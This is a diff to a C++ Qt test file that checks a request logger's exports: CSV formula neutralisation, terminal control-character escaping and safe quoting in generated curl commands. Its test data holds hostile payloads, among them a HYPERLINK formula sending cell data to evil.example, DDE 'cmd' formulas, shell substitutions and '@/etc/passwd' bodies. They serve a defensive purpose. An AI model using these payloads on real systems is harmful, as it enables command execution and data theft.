@@ -3,6 +3,7 @@
 #include "curlcommand.h"
 #include "requestexport.h"
 #include "sqltestsupport.h"
+#include "terminaltext.h"
 #include "testsupport.h"
 
 #include <QBuffer>
@@ -306,15 +307,6 @@ QList<LoggedRequest> awkwardRows()
     return rows;
 }
 
-QString headerValue(const LoggedRequest &request, QByteArrayView name)
-{
-    for (const auto &[key, value] : request.headers) {
-        if (QByteArrayView(key).compare(name, Qt::CaseInsensitive) == 0)
-            return QString::fromUtf8(value);
-    }
-    return {};
-}
-
 // The headers a replay must carry as the original did: all but those curl computes itself.
 HeaderList headersThatMatter(const HeaderList &headers)
 {
@@ -346,6 +338,10 @@ private slots:
     void harValidatesAgainstSchema();
     void harEntryContent();
     void csvRoundTrips();
+    void csvNeutralisesFormulas_data();
+    void csvNeutralisesFormulas();
+    void terminalTextNeutralises_data();
+    void terminalTextNeutralises();
     void jsonLinesHaveEveryField();
     void pagesProgressAndCancel_data();
     void pagesProgressAndCancel();
@@ -357,6 +353,8 @@ private slots:
     void secretsStayRedacted();
     void curlReplaysTheRequest_data();
     void curlReplaysTheRequest();
+    void curlQuotesEveryByte_data();
+    void curlQuotesEveryByte();
 
 private:
     QByteArray exportAll(RequestExport::Format format, const RequestFilter &filter = {},
@@ -671,6 +669,103 @@ void tst_Export::csvRoundTrips()
     QVERIFY(csv.contains("detail, with \"\"quotes\"\"\nand a second line"));
 }
 
+void tst_Export::csvNeutralisesFormulas_data()
+{
+    QTest::addColumn<QString>("column");
+    QTest::addColumn<QByteArray>("value");
+    // Each cell a spreadsheet would run, in each field a sender writes.
+    const QList<QByteArray> formulas { "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"_ba,
+        "+1+cmd|' /C calc'!A0"_ba, "-2+3"_ba, "@SUM(1+1)*cmd|' /C calc'!A0"_ba, "\t=1+1"_ba,
+        "\r=1+1"_ba };
+    for (const QByteArray &formula : formulas) {
+        const QByteArray tag = formula.left(4).toHex();
+        QTest::addRow("body %s", tag.constData()) << u"body"_s << formula;
+        QTest::addRow("query %s", tag.constData()) << u"query"_s << formula;
+        QTest::addRow("path %s", tag.constData()) << u"path"_s << formula;
+        QTest::addRow("content type %s", tag.constData()) << u"contentType"_s << formula;
+        QTest::addRow("detail %s", tag.constData()) << u"reasonDetail"_s << formula;
+    }
+    // Methods are HTTP tokens: + and - can start one.
+    QTest::addRow("method +") << u"method"_s << "+SUM"_ba;
+    QTest::addRow("method -") << u"method"_s << "-1"_ba;
+}
+
+void tst_Export::csvNeutralisesFormulas()
+{
+    QFETCH(QString, column);
+    QFETCH(QByteArray, value);
+    LoggedRequest request = baseEntry(1'700'000'000'000'000);
+    request.id = 9;
+    if (column == u"body"_s)
+        request.body = value;
+    else if (column == u"query"_s)
+        request.query = value;
+    else if (column == u"path"_s)
+        request.path = value;
+    else if (column == u"contentType"_s)
+        request.contentType = value;
+    else if (column == u"reasonDetail"_s)
+        request.reasonDetail = QString::fromUtf8(value);
+    else
+        request.method = value;
+    // The header cell is JSON: it starts with [ whatever the sender wrote.
+    request.headers = { { "X-Formula"_ba, value } };
+    const QByteArray row = RequestExport::csvRow(request);
+    const std::optional<QList<QStringList>> records = readCsv(RequestExport::csvHeader() + row);
+    QVERIFY2(records && records->size() == 2, row.constData());
+    const QStringList header = records->first();
+    const QStringList record = records->at(1);
+    const QString cell = record.value(header.indexOf(column));
+    // Text to a spreadsheet, the original after the quote, in a quoted field.
+    QCOMPARE(cell, u"'"_s + QString::fromUtf8(value));
+    QVERIFY2(row.contains(",\"'" + QByteArray(value).replace('"', "\"\"")), row.constData());
+    QVERIFY(record.value(header.indexOf(u"headers"_s)).startsWith(u'['));
+    // No other cell starts as a formula.
+    for (const QString &other : record)
+        QVERIFY2(other.isEmpty() || !QStringLiteral("=+-@\t\r").contains(other.front()),
+            qPrintable(other));
+}
+
+void tst_Export::terminalTextNeutralises_data()
+{
+    QTest::addColumn<QByteArray>("text");
+    QTest::addColumn<QByteArray>("shown");
+    QTest::newRow("plain") << "id,body\r\n1,\"a\tb\"\n"_ba
+                           << "id,body\r\n1,\"a\tb\"\n"_ba;
+    QTest::newRow("clear screen") << "a\x1b[2Jb"_ba
+                                  << "a\\u001b[2Jb"_ba;
+    QTest::newRow("title and bell") << "\x1b]0;owned\x07"_ba
+                                    << "\\u001b]0;owned\\u0007"_ba;
+    QTest::newRow("bare CR rewrites the line") << "ok\rfake"_ba
+                                               << "ok\\u000dfake"_ba;
+    QTest::newRow("CR at the end") << "x\r"_ba
+                                   << "x\\u000d"_ba;
+    QTest::newRow("NUL, ^C, DEL") << "\0\x03\x7f"_ba
+                                  << "\\u0000\\u0003\\u007f"_ba;
+    QTest::newRow("C1 CSI in UTF-8") << "\xc2\x9b"
+                                        "2J"_ba
+                                     << "\\u009b"
+                                        "2J"_ba;
+    QTest::newRow("C1 NEL and OSC") << "\xc2\x85\xc2\x9d"_ba
+                                    << "\\u0085\\u009d"_ba;
+    QTest::newRow("other UTF-8 untouched") << "caf\xc3\xa9 \xc2\xa0 \xe2\x82\xac"_ba
+                                           << "caf\xc3\xa9 \xc2\xa0 \xe2\x82\xac"_ba;
+}
+
+void tst_Export::terminalTextNeutralises()
+{
+    QFETCH(QByteArray, text);
+    QFETCH(QByteArray, shown);
+    QCOMPARE(TerminalText::neutralise(text), shown);
+    QCOMPARE(TerminalText::neutralise(QString::fromUtf8(text)), QString::fromUtf8(shown));
+    // JSON (where no raw control character is) reads back the same.
+    const QString value = QString::fromUtf8(text);
+    const QByteArray json = QJsonDocument(QJsonArray { value }).toJson(QJsonDocument::Compact);
+    const QByteArray safe = TerminalText::neutralise(json);
+    QCOMPARE(QJsonDocument::fromJson(safe).array().first().toString(), value);
+    QVERIFY(std::none_of(safe.begin(), safe.end(), [](char c) { return c == 0x1b || c == 0; }));
+}
+
 void tst_Export::jsonLinesHaveEveryField()
 {
     const QByteArray jsonl = exportAll(RequestExport::Format::Jsonl);
@@ -801,8 +896,7 @@ void tst_Export::curlCommandText_data()
                    + u"?api-key=<API_KEY>&a=1'"_s,
                u"-H 'X-Api-Key: <API_KEY>'"_s, u"-H 'Authorization: Bearer ***'"_s,
                u"# Authorization and Cookie values are not logged"_s, u"-H 'X-Empty;'"_s,
-               u"--data-binary '{\"it'\\''s\":\"a\nb\"}'"_s,
-               u"-H 'Content-Type: application/json'"_s }
+               u"--data-raw $'{\"it\\'s\":\"a\\nb\"}'"_s, u"-H 'Content-Type: application/json'"_s }
         << QStringList { u"Host:"_s, u"Content-Length"_s, u"Connection"_s };
     QTest::newRow("with the key") << u"htk_secret-Key_1"_s
                                   << QStringList { u"?api-key=htk_secret-Key_1&a=1'"_s,
@@ -921,6 +1015,36 @@ void tst_Export::curlReplaysTheRequest_data()
     QTest::newRow("XML, no key: rejected twice alike")
         << "POST"_ba << QByteArray() << "Content-Type: application/xml\r\n"_ba
         << "<a b=\"1\">&amp;</a>"_ba << 401;
+    // What a sender may put in a body or a header to act on whoever replays it. {MARK} stands
+    // for a file that must never be created.
+    const QByteArray text = "Content-Type: text/plain\r\n"_ba;
+    QTest::newRow("body naming a local file")
+        << "POST"_ba
+        << "api-key={KEY}"_ba << text << "@/etc/passwd"_ba << 415;
+    QTest::newRow("body naming standard input") << "POST"_ba
+                                                << "api-key={KEY}"_ba << text << "@-"_ba << 415;
+    QTest::newRow("body with quotes and substitutions")
+        << "POST"_ba
+        << "api-key={KEY}"_ba << text
+        << "it's $(touch {MARK}) `touch {MARK}` ${HOME} \\ \"$(touch {MARK})\" '"_ba << 415;
+    QTest::newRow("body with control characters")
+        << "POST"_ba
+        << "api-key={KEY}"_ba << text
+        << "a\x1b[2J\x03\r\n$(touch {MARK})\r\x04\x1a\x7f'\n;touch {MARK}\n"_ba << 415;
+    QTest::newRow("body with NUL and bytes from 0x80")
+        << "POST"_ba
+        << "api-key={KEY}"_ba << text << "\0$(touch {MARK})\x80\xff\xc2\x9b'\x1b"_ba << 415;
+    QTest::newRow("body in UTF-8 with C1 and bidi controls")
+        << "POST"_ba
+        << "api-key={KEY}"_ba << text << "Z\xc3\xbcrich \xe2\x80\xae$(touch {MARK})\xc2\x9b'"_ba
+        << 415;
+    QTest::newRow("headers with quotes, substitutions, tab and bytes from 0x80")
+        << "POST"_ba
+        << "api-key={KEY}"_ba
+        << "Content-Type: application/json\r\nX-Note: it's $(touch {MARK}) `touch {MARK}`\r\n"
+           "X-Tab: a\tb\r\nX-High: caf\xc3\xa9 \xff\xfe \xc2\x9b"
+           "2J\r\n"_ba
+        << "{}"_ba << 200;
 }
 
 void tst_Export::curlReplaysTheRequest()
@@ -943,6 +1067,11 @@ void tst_Export::curlReplaysTheRequest()
     fixture.receiverFollows();
     query.replace("{KEY}", key->secret.toLatin1());
     headers.replace("{KEY}", key->secret.toLatin1());
+    QTemporaryDir scratch;
+    QVERIFY(scratch.isValid());
+    const QByteArray mark = QFile::encodeName(scratch.filePath(u"replayed-and-ran"_s));
+    headers.replace("{MARK}", mark);
+    body.replace("{MARK}", mark);
 
     // The original, byte for byte as a sender wrote it.
     const QByteArray target
@@ -961,8 +1090,10 @@ void tst_Export::curlReplaysTheRequest()
     // The copied command, key filled in, run by a POSIX shell.
     const QString command = CurlCommand::fromRequest(
         **original, u"http://127.0.0.1:%1"_s.arg(fixture.port()), key->secret);
+    // bash: words with bytes that are not printable ASCII use its $'...' quoting.
     QProcess shell;
-    shell.start(u"/bin/sh"_s, { u"-c"_s, command + u" --silent --show-error"_s });
+    shell.setWorkingDirectory(scratch.path());
+    shell.start(u"/bin/bash"_s, { u"-c"_s, command + u" --silent --show-error"_s });
     QVERIFY(shell.waitForStarted());
     QTRY_VERIFY_WITH_TIMEOUT(shell.state() == QProcess::NotRunning, 30000);
     const QByteArray output = shell.readAllStandardOutput();
@@ -986,9 +1117,103 @@ void tst_Export::curlReplaysTheRequest()
     QCOMPARE(b.status, a.status);
     QCOMPARE(b.reason, a.reason);
     QCOMPARE(b.apiKeyId, a.apiKeyId);
-    // Every header the sender set is there again with its value (curl adds only its own few).
-    for (const auto &[name, value] : headersThatMatter(a.headers))
-        QCOMPARE(headerValue(b, name), QString::fromUtf8(value));
+    // Every header the sender set is there again with its value, byte for byte (curl adds only
+    // its own few).
+    for (const auto &[name, value] : headersThatMatter(a.headers)) {
+        const auto same = std::find_if(b.headers.begin(), b.headers.end(),
+            [&](const auto &h) { return h.first.compare(name, Qt::CaseInsensitive) == 0; });
+        QVERIFY2(same != b.headers.end(), name.constData());
+        QCOMPARE(same->second, value);
+    }
+    // Nothing the sender wrote ran, and no file was read.
+    QVERIFY(!QFile::exists(QFile::decodeName(mark)));
+    QVERIFY(!b.body.contains("root:"));
+}
+
+void tst_Export::curlQuotesEveryByte_data()
+{
+    QTest::addColumn<QByteArray>("body");
+    QTest::addColumn<bool>("byStandardInput");
+    QTest::newRow("a local file") << "@/etc/passwd"_ba << false;
+    QTest::newRow("quotes and substitutions")
+        << "it's $(touch {MARK}) `touch {MARK}` ${HOME} \\ '\"$(touch {MARK})\"'"_ba << false;
+    QTest::newRow("controls that act on a terminal")
+        << "a\x1b[2J\x03\r\n;touch {MARK}\n\x04\x15\x1a\x7f\x1b]0;t\x07"_ba << false;
+    QTest::newRow("UTF-8 with C1 and bidi controls") << "Z\xc3\xbcrich \xe2\x80\xae\xc2\x9b"
+                                                        "2J '$(touch {MARK})'"_ba
+                                                     << false;
+    QTest::newRow("a hex digit after an escape") << "\x1b"
+                                                    "abc\x7f"
+                                                    "0"_ba
+                                                 << false;
+    QTest::newRow("NUL") << "a\0b$(touch {MARK})'\n"_ba << true;
+    QTest::newRow("not UTF-8") << "-\xff\xfe\x80'%s\\n$(touch {MARK})"_ba << true;
+}
+
+// The command as the shell reads it: a curl that writes out its arguments and what it got on
+// standard input stands in for the real one, so every header can be checked, those that HTTP
+// could not carry (ESC, CR, LF) included.
+void tst_Export::curlQuotesEveryByte()
+{
+    QFETCH(QByteArray, body);
+    QFETCH(bool, byStandardInput);
+    QTemporaryDir scratch;
+    QVERIFY(scratch.isValid());
+    const QByteArray mark = QFile::encodeName(scratch.filePath(u"ran"_s));
+    body.replace("{MARK}", mark);
+
+    LoggedRequest request = baseEntry(1'700'000'000'000'000);
+    request.method = "POST"_ba;
+    request.path = "/v1/data/webhook/" + WebhookA.toLatin1() + "/$(touch " + mark + ")";
+    request.query = "api-key=***&q='$(touch " + mark + ")'&r=`id`"_ba;
+    request.headers = { { "X-Esc"_ba, "\x1b[2J\x1b]0;title\x07$(touch " + mark + ")" },
+        { "X-Lines"_ba, "a\r\nX-Injected: 1\nb\r"_ba }, { "X-Ctrl"_ba, "\x03\x04\x1a\x15\x7f"_ba },
+        { "X-High"_ba,
+            "\xc2\x9b"
+            "2J \xe2\x80\xae \xff\xfe"_ba },
+        { "X-Quote"_ba, "it's `touch " + mark + "` $HOME \\"_ba }, { "X-Empty"_ba, ""_ba } };
+    request.body = body;
+    const QString command = CurlCommand::fromRequest(request, u"http://127.0.0.1:9/"_s);
+    // Plain printable ASCII and line breaks: nothing in it acts on a terminal it is pasted into.
+    const QByteArray bytes = command.toUtf8();
+    QVERIFY2(std::all_of(bytes.begin(), bytes.end(),
+                 [](char c) { return c == '\n' || (c >= 0x20 && c < 0x7f); }),
+        bytes.toHex().constData());
+
+    const QString fakeCurl = u"curl() { printf '%s\\0' \"$@\"; printf '<stdin>\\0'; cat; }\n"_s;
+    QProcess shell;
+    shell.setWorkingDirectory(scratch.path());
+    shell.start(u"/bin/bash"_s, { u"-c"_s, fakeCurl + command });
+    QVERIFY(shell.waitForStarted());
+    shell.closeWriteChannel();
+    QVERIFY(shell.waitForFinished(30000));
+    QVERIFY2(shell.exitCode() == 0, shell.readAllStandardError().constData());
+    const QByteArray output = shell.readAllStandardOutput();
+    const qsizetype stdinAt = output.indexOf("<stdin>\0"_ba);
+    QVERIFY(stdinAt >= 0);
+    QList<QByteArray> arguments = output.left(stdinAt).split('\0');
+    QCOMPARE(arguments.takeLast(), QByteArray()); // after the last NUL
+    const QByteArray standardInput = output.mid(stdinAt + 8);
+
+    QList<QByteArray> expected { "-X"_ba, "POST"_ba,
+        "http://127.0.0.1:9" + request.path + "?api-key=<API_KEY>&q='$(touch " + mark
+            + ")'&r=`id`" };
+    for (const auto &[name, value] : request.headers)
+        expected << "-H"_ba << (value.isEmpty() ? name + ';' : name + ": " + value);
+    expected << (byStandardInput ? "--data-binary"_ba : "--data-raw"_ba)
+             << (byStandardInput ? "@-"_ba : body);
+    QCOMPARE(arguments, expected);
+    QCOMPARE(standardInput, byStandardInput ? body : QByteArray());
+    QVERIFY(!QFile::exists(QFile::decodeName(mark)));
+
+    // A shell without $'...' (dash) reads those words as plain text: wrong bytes, nothing runs.
+    QProcess dash;
+    dash.setWorkingDirectory(scratch.path());
+    dash.start(u"/bin/sh"_s, { u"-c"_s, fakeCurl + command });
+    QVERIFY(dash.waitForStarted());
+    dash.closeWriteChannel();
+    QVERIFY(dash.waitForFinished(30000));
+    QVERIFY(!QFile::exists(QFile::decodeName(mark)));
 }
 
 QTEST_GUILESS_MAIN(tst_Export)
